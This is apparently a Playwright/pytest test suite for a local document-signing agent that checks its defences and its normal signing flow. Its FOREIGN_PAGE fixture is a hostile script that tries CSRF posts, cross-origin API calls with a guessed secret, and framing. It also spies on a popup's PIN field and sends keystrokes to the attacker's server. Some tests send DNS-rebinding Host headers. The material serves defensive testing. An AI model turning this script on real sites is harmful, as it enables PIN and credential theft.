"""The local signing agent (`signflow agent`), tested with real parts: uvicorn on a free
loopback port, Debian's headless Chromium driven by Playwright (the system browser, never a
downloaded one), the SoftHSM2 token of the demo PKI, and two more HTTP servers on other
loopback ports: a portal (an allowed origin) and a foreign site (not allowed).

- a person opens a document in the agent's page, picks the token key, types the PIN and
  sees the verified result (the file on disk verifies);
- a foreign page tries the API (with and without a guessed pairing secret), a form post to
  the signing address, an iframe of the PIN page, reading the agent's pages and images,
  and spying on the agent's window while the PIN is typed: nothing is signed, the frame is
  refused, nothing is read, the PIN never reaches the foreign server;
- requests with another Host (DNS rebinding), without the secret, from other origins or
  too large are refused, and every answer forbids framing;
- a portal with the pairing secret asks for a signature, the person confirms it in the
  agent's page, the portal polls and downloads the signed file, which verifies.

Screenshots of every page go to tests/artefacts/agent-*.png.
"""

from __future__ import annotations

import base64
import hashlib
import http.client
import json
import os
import signal
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from .conftest import ROOT

pytestmark = pytest.mark.slow

# --- a small HTTP server that logs every request it receives ------------------------------


@dataclass
class Seen:
    method: str
    path: str
    headers: str
    body: bytes

    def text(self) -> str:
        return f"{self.method} {self.path}\n{self.headers}\n" + self.body.decode("latin-1")


@dataclass
class Site:
    """An HTTP server on 127.0.0.1 serving fixed pages and logging every request."""

    pages: dict[str, tuple[str, bytes]] = field(default_factory=dict)
    log: list[Seen] = field(default_factory=list)
    uploads: list[bytes] = field(default_factory=list)
    server: Any = None

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def start(self) -> Site:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                site.log.append(Seen(self.command, self.path, str(self.headers), body))
                path = self.path.split("?")[0]
                if self.command == "POST" and path == "/upload":
                    site.uploads.append(body)
                found = site.pages.get(path)
                if found is None:
                    self.send_response(204 if self.command == "POST" else 404)
                    self.end_headers()
                    return
                kind, data = found
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = _answer  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def everything(self) -> str:
        return "\n".join(s.text() for s in self.log)


# --- the agent, the portal and the foreign site --------------------------------------------


@dataclass
class Setup:
    agent: Any  # signflow.agent.server.AgentServer
    portal: Site
    foreign: Site
    secret: str
    pin: str
    pki: Any
    roster: Any


@pytest.fixture(scope="module")
def setup(demo_pki, pki_roster, tmp_path_factory):
    from signflow.agent.config import AgentConfig, parse_origin
    from signflow.agent.server import AgentServer
    from signflow.demo.softhsm import activate_softhsm

    assert demo_pki.softhsm is not None
    activate_softhsm(demo_pki.softhsm)  # the agent runs in this process: its SoftHSM
    portal, foreign = Site().start(), Site().start()
    work = tmp_path_factory.mktemp("agent") / "work"
    origin = parse_origin(portal.origin)
    assert origin is not None
    config = AgentConfig(roster=demo_pki.roster_path, trust=(demo_pki.root_pem,),
                         pkcs11=(str(demo_pki.softhsm.module),), allowed_origins=(origin,),
                         work=work)
    agent = AgentServer(config, port=0).start()
    secret = config.secret_path.read_text(encoding="utf-8").strip()
    try:
        yield Setup(agent, portal, foreign, secret, demo_pki.softhsm.pin(), demo_pki,
                    pki_roster)
    finally:
        agent.stop()
        portal.stop()
        foreign.stop()


@pytest.fixture
def context(browser):
    made = browser.new_context(viewport={"width": 1366, "height": 900}, locale="vi-VN")
    try:
        yield made
    finally:
        made.close()


def shot(page: Any, artefacts: Path, name: str) -> None:
    page.screenshot(path=str(artefacts / f"agent-{name}.png"), full_page=True)


def open_in_agent(setup: Setup, pdf: Path) -> Any:
    """A document opened in the agent as its page does it (store, then remember)."""
    from signflow.agent.work import store_document

    doc = store_document(setup.agent.config.work, pdf.read_bytes(), pdf.name, "",
                         setup.agent.config.max_document_bytes)
    setup.agent.agent.state.add_document(doc)
    return doc


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def signature_ok(path: Path, setup: Setup, member: str, role: str) -> Any:
    """The file carries ``member``'s ``role`` signature and verifies (in another thread:
    Playwright's sync API keeps an event loop running in this one, and verification runs
    its own)."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(_signature_ok, path, setup, member, role).result()


def _signature_ok(path: Path, setup: Setup, member: str, role: str) -> Any:
    from signflow.validation.revisions import read_history
    from signflow.validation.verify import VerifyPolicy, verify_file

    assert read_history(path).signature_for(member, role) is not None, \
        f"{path} carries no signature of {member} ({role})"
    verdict = verify_file(path, VerifyPolicy(trust_roots=(setup.pki.root_pem,),
                                             roster=setup.roster))
    mine = [s for s in verdict.signatures if s.member == member and s.role == role]
    assert mine and mine[0].ok, (mine, verdict.problems)
    assert all(s.ok for s in verdict.signatures), verdict.signatures
    return verdict


# --- 1. a person signs in the agent's page ------------------------------------------------


def test_open_sign_and_see_the_verified_result(setup, context, pdf_pack, artefacts):
    pdf = pdf_pack / "ha-nam" / "dang-ky-thi-dua-ha-nam-2019.pdf"
    original = sha256(pdf)
    page = context.new_page()
    page.goto(setup.agent.url)
    assert page.title().endswith("Công cụ ký số signflow"), page.title()
    assert "Mở văn bản để ký" in page.inner_text("h1")
    shot(page, artefacts, "1-home")

    # a file that is not a PDF: said on the page, nothing kept
    page.set_input_files("input[type=file]", files=[{
        "name": "gia-mao.pdf", "mimeType": "application/pdf", "buffer": b"<html>no</html>"}])
    page.wait_for_selector(".error")
    assert "không phải tệp PDF" in page.inner_text(".error"), page.inner_text(".error")
    assert not setup.agent.agent.state.opened()

    # choosing the file opens it (the page's script submits the form)
    page.set_input_files("input[type=file]", str(pdf))
    page.wait_for_url("**/documents/*")
    assert page.locator("svg g.field").count() == 2  # the head's box and the seal's
    legend = page.inner_text("ol.legend")
    assert "Lê Thị Thu Hường" in legend and "Có thể ký ngay" in legend, legend
    assert "Con dấu của Thanh tra tỉnh Hà Nam" in legend, legend
    assert page.locator("ol.legend a.button").count() == 1  # the seal waits for the head
    # the page image is the document's first page, drawn by pdfium
    image = page.request.get(f"{setup.agent.url}documents/"
                             f"{page.url.rsplit('/', 1)[1]}/pages/1.png")
    assert image.ok and image.body().startswith(b"\x89PNG")
    shot(page, artefacts, "2-document")

    page.click("ol.legend a.button")
    page.wait_for_url("**/sign/sf-head-ha-nam")
    keys = page.locator("label.key")
    assert keys.count() == 1, page.inner_text("form.sign")
    assert "Lê Thị Thu Hường" in keys.inner_text()
    assert page.get_attribute("#pin", "type") == "password"
    assert page.get_attribute("#pin", "autocomplete") == "off"
    shot(page, artefacts, "3-sign")

    # a wrong PIN: refused, said in Vietnamese, the field empty again, nothing signed
    page.fill("#pin", "00000000")
    page.click("form.sign button[type=submit]")
    page.wait_for_selector(".error")
    assert "từ chối mã PIN" in page.inner_text(".error"), page.inner_text(".error")
    assert page.input_value("#pin") == ""
    doc = next(d for d in setup.agent.agent.state.opened() if d.name == pdf.name)
    assert sha256(doc.path) == original and not doc.results

    started = time.monotonic()
    page.fill("#pin", setup.pin)
    page.click("form.sign button[type=submit]")
    page.wait_for_url("**/results/*", timeout=120_000)
    took = time.monotonic() - started
    assert "Đã ký và xác minh" in page.inner_text(".verdict"), page.inner_text("main")
    assert setup.pin not in page.content()
    shot(page, artefacts, "4-result")

    # the file on disk carries the head's signature, and it verifies
    signature_ok(doc.path, setup, "ha-nam", "head")
    assert sha256(pdf) == original  # the user's own file was never touched
    download = page.request.get(f"{setup.agent.url}documents/{doc.id}/file")
    assert download.ok and download.body() == doc.path.read_bytes()
    report = page.request.get(f"{setup.agent.url}documents/{doc.id}/report")
    assert report.ok and "frame-ancestors 'none'" in report.headers["content-security-policy"]
    assert "Biên bản xác minh chữ ký số" in report.text()

    # the document page now shows the head as signed and the seal as next
    page.goto(f"{setup.agent.url}documents/{doc.id}")
    assert "Đã ký: Lê Thị Thu Hường" in page.inner_text("ol.legend")
    # dropping a file on the home page opens it too
    page.goto(setup.agent.url)
    dropped = pdf_pack / "ha-nam" / "ke-hoach-phat-dong-ha-nam-2019.pdf"
    page.evaluate("""([name, data]) => {
        const bytes = Uint8Array.from(atob(data), c => c.charCodeAt(0));
        const transfer = new DataTransfer();
        transfer.items.add(new File([bytes], name, {type: "application/pdf"}));
        const zone = document.querySelector("[data-dropzone]");
        zone.dispatchEvent(new DragEvent("dragover", {dataTransfer: transfer, bubbles: true}));
        zone.dispatchEvent(new DragEvent("drop", {dataTransfer: transfer, bubbles: true}));
    }""", [dropped.name, base64.b64encode(dropped.read_bytes()).decode()])
    page.wait_for_url("**/documents/*")
    assert page.inner_text("h1") == dropped.name
    page.goto(setup.agent.url)
    listed = page.inner_text("table.list")
    assert pdf.name in listed and dropped.name in listed, listed
    shot(page, artefacts, "1-home-opened")
    print(f"signing through the page took {took:.1f} s")


# --- 2. a foreign page ------------------------------------------------------------------

FOREIGN_PAGE = """<!doctype html>
<html lang="vi"><head><meta charset="utf-8"><title>Trang lạ</title></head>
<body>
<h1>Trang của người khác</h1>
<iframe id="frame" src="@AGENT@/documents/@DOC@/sign/@FIELD@" width="700" height="400"></iframe>
<iframe name="sink" id="sink" width="300" height="100"></iframe>
<form id="post" method="post" action="@AGENT@/documents/@DOC@/sign/@FIELD@" target="sink">
  <input name="form_token" value="doan-bua"><input name="key" value="0">
  <input name="pin" value="12345678">
</form>
<button id="popup">Mở trang ký</button>
<pre id="out"></pre>
<script>
const agent = "@AGENT@";
const results = {};
async function attempt(name, run) {
  try { results[name] = "read:" + await run(); } catch (e) { results[name] = "error:" + e.name; }
}
async function attack() {
  const body = JSON.stringify({document_url: location.origin + "/doc.pdf",
                               member: "quang-ninh", role: "head"});
  await attempt("api", async () => {
    const r = await fetch(agent + "/api/sign-requests", {method: "POST", body,
      headers: {"Content-Type": "application/json"}});
    return r.status + " " + await r.text(); });
  await attempt("api_guessed_secret", async () => {
    const r = await fetch(agent + "/api/sign-requests", {method: "POST", body,
      headers: {"Content-Type": "application/json", "X-Signflow-Pairing": "doan-bua-123"}});
    return r.status + " " + await r.text(); });
  await attempt("api_text_plain", async () => {
    const r = await fetch(agent + "/api/sign-requests", {method: "POST", body});
    return r.status + " " + await r.text(); });
  await attempt("api_agent", async () => {
    const r = await fetch(agent + "/api/agent", {headers: {"X-Signflow-Pairing": "x"}});
    return r.status + " " + await r.text(); });
  await attempt("home", async () => (await (await fetch(agent + "/")).text()).length);
  await attempt("sign_page", async () =>
    (await (await fetch(agent + "/documents/@DOC@/sign/@FIELD@")).text()).length);
  await attempt("no_cors", async () => {
    const r = await fetch(agent + "/documents/@DOC@", {mode: "no-cors"});
    const text = await r.text();
    if (!text.length) throw new TypeError("opaque");
    return text.length; });
  await attempt("image", () => new Promise((ok, no) => {
    const img = new Image();
    img.onload = () => ok(img.width);
    img.onerror = () => no(new TypeError("blocked"));
    img.src = agent + "/documents/@DOC@/pages/1.png"; }));
  document.getElementById("post").submit();
  await new Promise(r => setTimeout(r, 1500));
  document.getElementById("out").textContent = JSON.stringify(results, null, 1);
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
}
let popup = null;
document.getElementById("popup").addEventListener("click", () => {
  popup = window.open(agent + "/documents/@DOC@/sign/@FIELD@", "agent");
  setInterval(() => {
    let seen;
    try { seen = popup.document.querySelector("#pin").value; }
    catch (e) { seen = "error:" + e.name; }
    fetch("/spy?seen=" + encodeURIComponent(seen));
  }, 100);
});
document.addEventListener("keydown", (e) => fetch("/key?k=" + encodeURIComponent(e.key)));
attack();
</script>
</body></html>
"""


def test_a_foreign_page_cannot_make_the_agent_sign_nor_see_the_pin(setup, context, pdf_pack,
                                                                     artefacts):
    doc = open_in_agent(setup, pdf_pack / "quang-ninh" / "dang-ky-thi-dua-quang-ninh-2019.pdf")
    before = sha256(doc.path)
    agent = setup.agent.url.rstrip("/")
    attack = FOREIGN_PAGE.replace("@AGENT@", agent).replace("@DOC@", doc.id)
    setup.foreign.pages["/attack.html"] = (
        "text/html; charset=utf-8", attack.replace("@FIELD@", "sf-head-quang-ninh").encode())
    setup.foreign.pages["/doc.pdf"] = ("application/pdf", doc.path.read_bytes())
    answers: list[tuple[str, str, int]] = []
    context.on("response", lambda r: answers.append((r.request.method, r.url, r.status)))
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda m: console.append(m.text))
    page.goto(f"{setup.foreign.origin}/attack.html")
    deadline = time.monotonic() + 30
    while not any(s.path == "/report" for s in setup.foreign.log):
        assert time.monotonic() < deadline, "the foreign page did not finish its attempts"
        time.sleep(0.1)
    report = json.loads(next(s.body for s in setup.foreign.log if s.path == "/report"))
    print("the foreign page's attempts:", report)
    shot(page, artefacts, "7-foreign-page")

    # every attempt to use the API or read a page failed in the browser (no CORS headers)
    for name in ("api", "api_guessed_secret", "api_text_plain", "api_agent", "home",
                 "sign_page", "no_cors", "image"):
        assert report[name].startswith("error:"), (name, report[name])
    # the form post reached the agent and was refused: not from the agent's own page
    posts = [(u, s) for m, u, s in answers if m == "POST" and u.startswith(agent)]
    assert posts and all(s == 403 for _u, s in posts), posts
    # the iframe of the PIN page was refused by the browser (frame-ancestors 'none')
    assert any("frame-ancestors" in c for c in console), console
    for frame in page.frames[1:]:
        assert frame.query_selector("#pin") is None, frame.url
    # nothing was signed, no request was made
    assert sha256(doc.path) == before and not doc.results
    assert not setup.agent.agent.state.requests

    # the person opens the agent's page from the foreign page and signs there; the foreign
    # page watches the window and the keyboard: the PIN never reaches it
    with context.expect_page() as opened:
        page.click("#popup")
    popup = opened.value
    popup.wait_for_selector("#pin")
    popup.click("#pin")
    popup.keyboard.type(setup.pin)
    popup.click("form.sign button[type=submit]")
    popup.wait_for_url("**/results/*", timeout=120_000)
    assert "Đã ký và xác minh" in popup.inner_text(".verdict")
    time.sleep(1.0)  # the spy keeps asking
    spied = [s for s in setup.foreign.log if s.path.startswith("/spy")]
    assert spied, "the foreign page's spy did not run"
    print("what the spy saw:", sorted({s.path for s in spied}))
    assert all("error" in s.path or "seen=&" in s.path or s.path.endswith("seen=")
               for s in spied), spied[:3]
    assert setup.pin not in setup.foreign.everything()
    signature_ok(doc.path, setup, "quang-ninh", "head")


# --- 3. requests the agent refuses before anything else ---------------------------------


def raw(setup: Setup, method: str, path: str, headers: dict[str, str] | None = None,
        body: bytes = b"", host: str | None = None) -> tuple[int, dict[str, str], bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", setup.agent.port, timeout=30)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", host or f"127.0.0.1:{setup.agent.port}")
        for key, value in (headers or {}).items():
            conn.putheader(key, value)
        if body or method == "POST":
            conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body or None)
        answer = conn.getresponse()
        return answer.status, {k.lower(): v for k, v in answer.getheaders()}, answer.read()
    finally:
        conn.close()


def test_other_hosts_origins_and_oversized_requests_are_refused(setup):
    port = setup.agent.port
    portal = setup.portal.origin
    good = {"Origin": portal, "X-Signflow-Pairing": setup.secret}
    # the agent's own names only: a foreign name pointed at 127.0.0.1 (DNS rebinding) is not
    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):
        status, headers, _body = raw(setup, "GET", "/", host=host)
        assert status == 200, host
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["x-frame-options"] == "DENY"
    for host in (f"evil.example:{port}", f"127.0.0.1.evil.example:{port}", "127.0.0.1",
                 f"localhost:{port + 1}", f"[::1]:{port}"):
        status, headers, body = raw(setup, "GET", "/", host=host)
        assert status == 403 and "access-control-allow-origin" not in headers, host
        status, _h, _b = raw(setup, "GET", "/api/agent", good, host=host)
        assert status == 403, host

    # the API: a configured origin with the pairing secret, nothing else
    status, headers, body = raw(setup, "GET", "/api/agent", good)
    assert status == 200 and headers["access-control-allow-origin"] == portal, body
    assert json.loads(body)["agent"] == "signflow"
    refused = [
        {},  # neither
        {"X-Signflow-Pairing": setup.secret},  # no Origin (not a browser, or a stripped one)
        {"Origin": portal},  # no secret
        {"Origin": portal, "X-Signflow-Pairing": setup.secret[:-1] + "x"},  # a wrong one
        {"Origin": setup.foreign.origin, "X-Signflow-Pairing": setup.secret},
        {"Origin": "null", "X-Signflow-Pairing": setup.secret},
        {"Origin": f"http://localhost:{port}", "X-Signflow-Pairing": setup.secret},
    ]
    for headers_sent in refused:
        for method, path in (("GET", "/api/agent"), ("POST", "/api/sign-requests"),
                             ("GET", "/api/sign-requests/abc"),
                             ("GET", "/api/sign-requests/abc/document"),
                             ("GET", "/api/no-such-thing"), ("DELETE", "/api/sign-requests")):
            status, headers, _b = raw(setup, method, path, headers_sent, b"{}")
            assert status == 403, (headers_sent, path, status)
            assert not any(k.startswith("access-control-") for k in headers), headers
    # preflight: answered for the portal only
    status, headers, _b = raw(setup, "OPTIONS", "/api/sign-requests", {
        "Origin": portal, "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "content-type,x-signflow-pairing",
        "Access-Control-Request-Private-Network": "true"})
    assert status == 204 and headers["access-control-allow-origin"] == portal
    assert "X-Signflow-Pairing" in headers["access-control-allow-headers"]
    assert headers["access-control-allow-private-network"] == "true"
    status, headers, _b = raw(setup, "OPTIONS", "/api/sign-requests", {
        "Origin": setup.foreign.origin, "Access-Control-Request-Method": "POST"})
    assert status == 403 and "access-control-allow-origin" not in headers
    # the document must come from an allowed origin
    status, _h, body = raw(setup, "POST", "/api/sign-requests",
                           {**good, "Content-Type": "application/json"},
                           json.dumps({"document_url": f"{setup.foreign.origin}/doc.pdf",
                                       "member": "nam-dinh", "role": "head"}).encode())
    assert status == 400, body
    status, _h, body = raw(setup, "POST", "/api/sign-requests",
                           {**good, "Content-Type": "application/json"},
                           json.dumps({"document_url": f"{portal}/nothing-here.pdf",
                                       "member": "nam-dinh", "role": "head"}).encode())
    assert status == 502, body

    # the agent's own forms: from its own pages only; bodies within the limit
    status, _h, body = raw(setup, "POST", "/documents", {
        "Content-Type": "application/x-www-form-urlencoded"}, b"form_token=x")
    assert status == 403, body
    status, _h, body = raw(setup, "POST", "/documents", {
        "Origin": setup.foreign.origin, "Content-Type": "application/x-www-form-urlencoded"},
        b"form_token=x")
    assert status == 403, body
    too_big = setup.agent.config.max_document_bytes + 2 * 1024 * 1024
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.putrequest("POST", "/documents", skip_host=True)
    conn.putheader("Host", f"127.0.0.1:{port}")
    conn.putheader("Origin", f"http://127.0.0.1:{port}")
    conn.putheader("Content-Type", "multipart/form-data; boundary=x")
    conn.putheader("Content-Length", str(too_big))
    conn.endheaders()
    answer = conn.getresponse()
    assert answer.status == 413
    conn.close()


def test_settings_refuse_another_host_and_bad_origins(tmp_path):
    from signflow.agent.config import load_agent_config, parse_origin, read_pairing_secret
    from signflow.errors import InputError

    roster = ROOT / "signflow" / "documents" / "examples" / "cum-thi-dua-so-2-2019" / \
        "roster.toml"
    settings = tmp_path / "agent.toml"
    settings.write_text(f'[agent]\nroster = "{roster}"\nhost = "0.0.0.0"\n', encoding="utf-8")
    with pytest.raises(InputError, match="127.0.0.1"):
        load_agent_config(settings)
    for bad in ("*", "null", "https://portal.example/path", "ftp://portal.example",
                "https://user@portal.example", "portal.example", " https://portal.example"):
        assert parse_origin(bad) is None, bad
        settings.write_text(f'[agent]\nroster = "{roster}"\nallowed_origins = ["{bad}"]\n',
                            encoding="utf-8")
        with pytest.raises(InputError):
            load_agent_config(settings)
    assert parse_origin("https://Portal.Example") == ("https", "portal.example", 443)
    assert parse_origin("http://127.0.0.1:8080") == ("http", "127.0.0.1", 8080)
    settings.write_text(f'[agent]\nroster = "{roster}"\nwork = "w"\n'
                        'allowed_origins = ["https://portal.example"]\n', encoding="utf-8")
    config = load_agent_config(settings)
    assert config.allowed_origins == (("https", "portal.example", 443),)
    secret = read_pairing_secret(config)  # made on first use, owner-only
    assert len(secret) >= 32 and config.secret_path == tmp_path / "w" / "pairing-secret.txt"
    if os.name == "posix":
        assert config.secret_path.stat().st_mode & 0o077 == 0
    assert read_pairing_secret(config) == secret


def test_the_command_prints_the_url_and_where_the_secret_is_never_the_secret(demo_pki,
                                                                            tmp_path):
    from signflow.demo.pki import free_loopback_port

    port = free_loopback_port()
    secret_file = tmp_path / "secret.txt"
    env = {**os.environ, "SIGNFLOW_LANG": "vi", "SOFTHSM2_CONF": str(demo_pki.softhsm.conf)}
    process = subprocess.Popen(
        [str(ROOT / ".venv" / "bin" / "signflow"), "agent", "--roster",
         str(demo_pki.roster_path), "--trust", str(demo_pki.root_pem), "--port", str(port),
         "--pkcs11-lib", str(demo_pki.softhsm.module), "--pairing-secret-file",
         str(secret_file), "--work", str(tmp_path / "work"), "--allow-origin",
         "https://congthongtin.example.gov.vn"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, cwd=tmp_path)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                conn = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
                conn.request("GET", "/")
                assert conn.getresponse().status == 200
                conn.close()
                break
            except OSError:
                assert process.poll() is None, process.communicate()
                assert time.monotonic() < deadline, "the agent did not start"
                time.sleep(0.2)
    finally:
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=60)
    assert process.returncode == 0, err
    assert f"http://127.0.0.1:{port}/" in out and str(secret_file) in out, out
    assert "https://congthongtin.example.gov.vn" in out
    secret = secret_file.read_text(encoding="utf-8").strip()
    assert secret not in out and secret not in err
    assert "Công cụ ký số đã dừng." in out, out


# --- 4. a portal's «Ký số» button ----------------------------------------------------------

PORTAL_PAGE = """<!doctype html>
<html lang="vi"><head><meta charset="utf-8"><title>Cổng thông tin thi đua</title>
<style>body{font-family:"Liberation Sans",Arial,sans-serif;margin:2rem;max-width:46rem}
button{font:inherit;font-weight:700;padding:.5rem 1.4rem;background:#a51d24;color:#fff;
border:0;border-radius:6px}#status{margin-top:1rem;padding:.6rem;background:#eef1f4}</style>
</head><body>
<h1>Cổng thông tin Cụm Thi đua số 2</h1>
<p>Bản đăng ký thi đua năm 2019 của Thanh tra tỉnh Nam Định chờ Chánh Thanh tra ký.</p>
<button id="sign">Ký số</button>
<p id="status">Chưa ký.</p>
<script>
const AGENT = "@AGENT@", SECRET = "@SECRET@";
const status = document.getElementById("status");
const headers = {"X-Signflow-Pairing": SECRET};
document.getElementById("sign").addEventListener("click", async () => {
  const win = window.open("about:blank", "ky-so");
  const r = await fetch(AGENT + "/api/sign-requests", {method: "POST",
    headers: {...headers, "Content-Type": "application/json"},
    body: JSON.stringify({document_url: location.origin + "/files/dang-ky-nam-dinh.pdf",
                          member: "nam-dinh", role: "head"})});
  const asked = await r.json();
  if (!r.ok) { status.textContent = "Lỗi: " + asked.error; win.close(); return; }
  win.location = asked.confirm_url;
  status.textContent = "Đang chờ ký trong cửa sổ của công cụ ký số…";
  poll(asked.id);
});
async function poll(id) {
  const s = await (await fetch(AGENT + "/api/sign-requests/" + id, {headers})).json();
  if (s.state === "pending") { setTimeout(() => poll(id), 300); return; }
  if (s.state !== "signed") { status.textContent = "Không ký: " + s.state; return; }
  const signed = await fetch(AGENT + s.document_url, {headers});
  const bytes = await signed.arrayBuffer();
  await fetch("/upload", {method: "POST", body: bytes});
  status.textContent = "Đã nhận văn bản đã ký: " + s.signed_by + " (kiểm tra: " +
    (s.verification.accepted ? "hợp lệ" : "không hợp lệ") + ").";
  status.dataset.done = JSON.stringify(s);
}
</script>
</body></html>
"""


def test_a_portal_asks_the_person_confirms_and_the_portal_gets_the_verified_file(
        setup, context, pdf_pack, artefacts, tmp_path):
    pdf = pdf_pack / "nam-dinh" / "dang-ky-thi-dua-nam-dinh-2019.pdf"
    agent = setup.agent.url.rstrip("/")
    setup.portal.pages["/portal.html"] = ("text/html; charset=utf-8", PORTAL_PAGE.replace(
        "@AGENT@", agent).replace("@SECRET@", setup.secret).encode())
    setup.portal.pages["/files/dang-ky-nam-dinh.pdf"] = ("application/pdf", pdf.read_bytes())
    page = context.new_page()
    page.goto(f"{setup.portal.origin}/portal.html")
    with context.expect_page() as opened:
        page.click("#sign")
    confirm = opened.value
    confirm.wait_for_selector("#pin", timeout=60_000)
    assert "/requests/" in confirm.url
    notice = confirm.inner_text(".notice")
    assert setup.portal.origin in notice, notice
    assert setup.roster.member("nam-dinh").head.name in confirm.inner_text("h1")
    assert confirm.locator("label.key").count() == 1
    shot(confirm, artefacts, "5-portal-request")
    confirm.fill("#pin", setup.pin)
    confirm.click("form.sign button[type=submit]")
    confirm.wait_for_url("**/results/*", timeout=120_000)
    assert "Đã ký và xác minh" in confirm.inner_text(".verdict")
    assert setup.portal.origin in confirm.inner_text(".notice")
    shot(confirm, artefacts, "6-portal-result")

    page.wait_for_selector("#status[data-done]", timeout=60_000)
    done = json.loads(page.get_attribute("#status", "data-done") or "{}")
    assert done["state"] == "signed" and done["verification"]["accepted"], done
    assert done["verification"]["signature"]["ok"], done
    shot(page, artefacts, "8-portal-page")
    assert len(setup.portal.uploads) == 1
    signed = tmp_path / "signed.pdf"
    signed.write_bytes(setup.portal.uploads[0])
    assert hashlib.sha256(signed.read_bytes()).hexdigest() == done["sha256"]
    signature_ok(signed, setup, "nam-dinh", "head")
    assert setup.pin not in setup.portal.everything()
    # the request is closed: its page says so, the API keeps the result
    request_id = done["id"]
    status, _h, body = raw(setup, "GET", f"/api/sign-requests/{request_id}",
                           {"Origin": setup.portal.origin,
                            "X-Signflow-Pairing": setup.secret})
    assert status == 200 and json.loads(body)["state"] == "signed"
    # another origin cannot read it, even with the secret
    status, _h, _b = raw(setup, "GET", f"/api/sign-requests/{request_id}",
                         {"Origin": setup.foreign.origin,
                          "X-Signflow-Pairing": setup.secret})
    assert status == 403


def test_agent_module_is_not_loaded_by_help():
    """`signflow --help` stays fast: the agent (Starlette, uvicorn) loads only when run."""
    probe = ("import sys; from signflow.cli import main; main(['--help']); "
             "print([m for m in sys.modules if m.startswith(('starlette', 'uvicorn', "
             "'signflow.agent'))])")
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                          timeout=120, env={**os.environ, "SIGNFLOW_LANG": "vi"})
    assert done.stdout.strip().splitlines()[-1] == "[]", done.stdout
